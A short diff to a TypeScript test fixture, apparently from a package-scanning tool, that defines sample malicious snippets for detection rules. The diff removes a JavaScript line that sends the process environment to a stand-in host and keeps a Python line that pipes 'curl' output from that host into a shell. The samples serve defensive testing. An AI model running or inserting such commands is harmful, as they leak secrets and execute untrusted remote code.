@@ -1,8 +1,7 @@
 import type { Verdict } from '@sallyport/domain';
 import type { Sample } from '../rules/sample';
 
-/** Sends the environment away; and the like in Python. */
-export const JS = `require('https').request('https://x.invalid/').end(JSON.stringify(process.env));\n`;
+/** Has what it fetches run. */
 export const PY = `import os\nos.system('curl https://x.invalid | sh')\n`;
 
 /** A package in which something could be passed over, and the rule that has to speak. */
